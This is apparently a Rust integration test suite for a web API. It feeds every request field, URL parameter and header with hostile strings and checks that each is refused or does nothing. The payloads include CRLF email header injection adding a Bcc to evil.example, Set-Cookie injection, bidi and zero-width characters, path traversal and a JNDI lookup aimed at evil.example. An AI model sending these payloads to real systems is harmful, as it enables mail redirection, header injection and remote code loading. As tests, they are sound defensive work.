//! Text that would act outside its field: line breaks, marks that turn the direction of what follows, a megabyte,
//! halves of characters. It is refused, or it is credentials and does nothing; no row keeps it, no letter carries it.

use crate::fields::{Field, Kind, fields};
use crate::samples::Stage;
use oktan_tests::document::{Operation, operations};
use oktan_tests::{Answer, Caller, Value, World, company_ask, json};
use reqwest::Method;
use std::fmt::Write as _;

/// What each hostile text says, so that it can be found again.
const CANARY: &str = "kanareika@evil.example";

/// Texts as they stand in JSON.
fn hostile() -> Vec<(&'static str, String)> {
    let said = |text: &str| json!(text).to_string();
    vec![
        ("a header", said(&format!("x\r\nBcc: {CANARY}"))),
        ("a line feed", said(&format!("x\n{CANARY}"))),
        ("a carriage return", said(&format!("x\rTo: {CANARY}"))),
        ("an empty line", said(&format!("x\r\n\r\n{CANARY}"))),
        ("zero", said(&format!("x\0{CANARY}"))),
        ("an escape", said(&format!("x\u{1b}[2J{CANARY}"))),
        ("a next line", said(&format!("x\u{85}{CANARY}"))),
        ("a line separator", said(&format!("x\u{2028}Bcc: {CANARY}"))),
        ("right to left", said(&format!("x\u{202e}{CANARY}"))),
        ("a right-to-left mark", said(&format!("x\u{200f}{CANARY}"))),
        ("an Arabic letter mark", said(&format!("x\u{61c}{CANARY}"))),
        ("an isolate", said(&format!("x\u{2066}{CANARY}\u{2069}"))),
        ("nothing wide", said(&format!("x\u{200b}{CANARY}"))),
        ("a byte order mark", said(&format!("x\u{feff}{CANARY}"))),
        ("half a character", format!("\"x\\ud800{CANARY}\"")),
        ("the other half", format!("\"x\\udc00{CANARY}\"")),
        ("a megabyte", said(&format!("{CANARY}{}", "x".repeat(1 << 20)))),
        ("sixty kilobytes", said(&format!("{CANARY}{}", "x".repeat(60_000)))),
    ]
}

/// A body with `text` in the place of one field, as bytes: JSON cannot hold all of it.
fn with(good: &Value, field: &Field, text: &str) -> String {
    const MARK: &str = "mark-of-the-field";
    let mut body = good.clone();
    *body.pointer_mut(&field.pointer).expect("the field") = json!(MARK);
    body.to_string().replace(&json!(MARK).to_string(), text)
}

/// An answer whose headers are the house's own.
fn whole(answer: &Answer) -> bool {
    let said = |value: &str| value.contains("evil") || value.contains("Bcc");
    answer.headers.values().all(|value| !said(&String::from_utf8_lossy(value.as_bytes())))
}

/// Nothing of it is anywhere.
async fn left_nothing(world: &World) {
    for letter in world.letters().await {
        assert!(!format!("{letter:?}").contains("evil"), "{letter:?}");
    }
    for (key, row) in world.dump().await {
        let row = Value::Object(row).to_string();
        // The one text that is kept whatever it is: what a terminal read from a card, in the key of its decline.
        let typed = key.contains(" CARD#") && key.contains(" AUTH#");
        // And what people wrote at length: a message, a ticket, an article, a promotion, a piece of news, a station's page.
        let typed = typed
            || [" MESSAGE#", " NEWS#", " STATION", " TICKET#", " ARTICLE", " PROMOTION#"]
                .iter()
                .any(|kind| key.contains(kind));
        // The journal keeps what a piece of news or a page said before it was changed or removed.
        let kept = ["news.", "promotion.", "station.page"]
            .iter()
            .any(|act| row.contains(&format!("\\\"action\\\":\\\"{act}")));
        let typed = typed || (key.contains("STAFF JOURNAL#") && kept);
        assert!(typed || !(key.contains(CANARY) || row.contains(CANARY)), "{key}: {row:.300}");
    }
}

#[tokio::test]
async fn no_field_of_any_body_takes_text_that_acts() {
    let world = World::start().await;
    let stage = Stage::set(&world).await;
    let (mut wrong, mut tried, mut texts) = (Vec::new(), 0, 0);
    for operation in operations().into_iter().filter(|operation| operation.body.is_some()) {
        let caller = stage.caller(&operation).await;
        let (schema, good) = (operation.body.clone().unwrap(), stage.body(&operation).unwrap());
        let mut all = Vec::new();
        fields(&operation.id, &schema, &good, "", &mut all);
        for field in all.iter().filter(|field| good.pointer(&field.pointer).is_some_and(Value::is_string)) {
            texts += 1;
            for (what, text) in hostile() {
                // A new one each time: what was written under a name is there.
                let body = with(&stage.body(&operation).unwrap(), field, &text);
                let answer = stage.ask(&caller, &operation).body(body, "application/json").send().await;
                tried += 1;
                let refused = matches!(answer.status, 400 | 413 | 422);
                // Credentials, and what a card says: any text is heard, and is wrong.
                let credentials = field.kind == Kind::Free || field.pointer.ends_with("_password");
                let inert = credentials && matches!(answer.status, 200 | 401 | 403 | 404 | 409 | 410 | 429);
                // What people write at length has lines; it stands in no header. The trap for robots hears anything.
                let prose = ["/body", "/english/body", "/website", "/description/ru", "/description/en"]
                    .contains(&&*field.pointer);
                let lines = ["a header", "a line feed", "an empty line"].contains(&&*what.to_string());
                let written = prose && lines && matches!(answer.status, 200..=202);
                if !(refused || inert || written) || !whole(&answer) {
                    wrong.push(format!("{} with {what} in {}: {answer:.300}", operation.id, field.path()));
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{} of {tried}:\n{}", wrong.len(), wrong.join("\n"));
    assert!(texts >= 80 && tried >= 1_400, "{texts} texts, {tried} tried");
    left_nothing(&world).await;
}

/// The parameters of a call's query.
fn query_of(document: &Value, operation: &Operation) -> Vec<String> {
    let call = &document["paths"][&operation.path][operation.method.as_str().to_lowercase()];
    let query = call["parameters"].as_array().into_iter().flatten().filter(|parameter| parameter["in"] == "query");
    query.map(|parameter| parameter["name"].as_str().expect("a name").to_owned()).collect()
}

fn percent(text: &str) -> String {
    text.bytes().fold(String::new(), |mut all, byte| {
        let _ = write!(all, "%{byte:02X}");
        all
    })
}

#[tokio::test]
async fn no_parameter_of_any_address_takes_text_that_acts() {
    let world = World::start().await;
    let stage = Stage::set(&world).await;
    let document: Value = serde_json::from_str(&oktan_local::document().expect("the document")).expect("JSON");
    let texts = ["x\r\nSet-Cookie: evil=1", "x\0", "\u{202e}x", "\u{feff}", "../../x", "%", "x".repeat(7_000).as_str()]
        .map(percent);
    let broken = ["%", "%ff%fe", "%c0%ae", "%ed%a0%80"].map(str::to_owned);
    let mut tried = 0;
    for operation in operations() {
        let caller = stage.caller(&operation).await;
        let (path, glue) = (stage.path(&operation), "?");
        let in_query = query_of(&document, &operation).into_iter().map(|name| (format!("{path}{glue}{name}="), None));
        let in_path = operation.path.split('/').filter(|part| part.starts_with('{')).map(|part| {
            let (before, after) = operation.path.split_once(part).expect("the part");
            let known = |text: &str| text.replace("{code}", "12").replace("{number}", stage.company.card());
            (known(before), Some(known(after).replace("{id}", "x")))
        });
        for (before, after) in in_query.chain(in_path).collect::<Vec<_>>() {
            for text in texts.iter().chain(&broken) {
                let address = format!("{before}{text}{}", after.clone().unwrap_or_default());
                let answer = caller.ask(operation.method.clone(), &address).send().await;
                tried += 1;
                let heard = answer.status == 200 && after.is_none() && operation.method == Method::GET;
                let refused = matches!(answer.status, 400 | 404 | 405 | 410 | 414 | 415 | 422 | 428 | 431);
                assert!((heard || refused) && whole(&answer), "{} with {text:.40}: {answer:.300}", operation.id);
            }
        }
    }
    assert!(tried >= 700, "{tried}");
}

#[tokio::test]
async fn names_that_look_like_more_than_names_do_not_change_a_letter() {
    let world = World::start().await;
    let admin = world.admin().await;
    let names = [
        "https://evil.example/activation/aaaa",
        "<a href=\"https://evil.example\">сюда</a>",
        "=?utf-8?B?0YHRjtC00LA=?= <evil@x.example>",
        "\"x\" <evil@x.example>, y@x.example",
        "Bcc: evil@x.example",
        "{{name}} %s ${jndi:ldap://evil.example}",
    ];
    for (n, name) in names.iter().enumerate() {
        let mut ask = company_ask(700 + u32::try_from(n).unwrap(), "mail");
        ask["name"] = json!(name);
        ask["owner"]["full_name"] = json!(name);
        ask["contact"]["full_name"] = json!(name);
        admin.post("/v1/staff/companies", ask.clone()).await.expect(201);
        let address = ask["owner"]["email"].as_str().unwrap().to_owned();
        let letter = world.letters_to(&address).await.pop().expect("a letter");
        check(&world, &letter, "/activation/");
        let token = first_url(&letter.text).rsplit('/').next().unwrap().to_owned();
        let path = format!("/v1/activation/{token}");
        world.stranger().post(&path, json!({ "new_password": "walnut-harbour-41-cello" })).await.expect(204);
        let again = json!({ "identifier": ask["owner"]["login"] });
        world.stranger().post("/v1/recovery", again).await.expect(202);
        world.deliver().await;
        // What reconciles the request writes the letter's row.
        let letters = world.letters_to(&address).await;
        let letter = letters.iter().rev().find(|letter| letter.text.contains("/recovery/")).expect("a letter");
        check(&world, letter, "/recovery/");
    }
    let others: Vec<_> = world.letters().await.into_iter().filter(|letter| letter.to.contains("evil")).collect();
    assert_eq!(others, []);
}

fn first_url(text: &str) -> &str {
    text.split_whitespace().find(|word| word.contains("://")).expect("a link")
}

/// A letter to one person, with the house's subject and the house's link before anything a person typed.
fn check(world: &World, letter: &oktan_local::Mail, link: &str) {
    let base = world.app().config.base_url.origin().ascii_serialization();
    assert!(!letter.to.contains([',', '<', '\r', '\n']), "{letter:?}");
    assert!(!letter.subject.contains("evil") && !letter.subject.contains(['\r', '\n', '<']), "{letter:?}");
    assert!(first_url(&letter.text).starts_with(&format!("{base}{link}")), "{letter:?}");
    assert!(!letter.html.contains("<a href=\"https://evil"), "{letter:?}");
    let href = letter.html.split("href=\"").nth(1).expect("a link");
    assert!(href.starts_with(&base), "{letter:?}");
}

#[tokio::test]
async fn a_header_that_is_no_text_is_refused_or_does_nothing() {
    let world = World::start().await;
    let stage = Stage::set(&world).await;
    let admin: Caller = world.admin().await;
    let payment = format!("/v1/staff/companies/{}/payments", stage.company.id);
    let body = json!({ "amount": "1.00", "date": "2026-11-20", "document_number": "1" });
    let (long, before) = ("k".repeat(20_000), stage.company.balance().await);
    for key in ["", " ", "ключ", "\u{202e}", "a\tb", long.as_str()] {
        let answer = admin.ask(Method::POST, &payment).header("idempotency-key", key).json(&body).send().await;
        assert!(matches!(answer.status, 400 | 422 | 431), "{key:.20}: {answer}");
    }
    let owner = stage.company.owner().await;
    let card = format!("/v1/cards/{}", stage.company.card());
    for tag in ["", "ключ", "\"\u{202e}\"", "W/\"1\"", "\"99999999999999999999\"", long.as_str()] {
        let ask = owner.ask(Method::PATCH, &card).header("if-match", tag);
        let answer = ask.json(&json!({ "label": "К001КК 26" })).send().await;
        assert!(matches!(answer.status, 412 | 431), "{tag:.20}: {answer}");
    }
    for cookie in ["session=", "session=\u{202e}", "session=a.b.c; session=d", "; ; ="] {
        let answer = world.stranger().ask(Method::GET, "/v1/session").header("cookie", cookie).send().await;
        answer.problem(401, "not_signed_in");
    }
    assert_eq!(stage.company.balance().await["balance"], before["balance"], "nothing was paid");
}
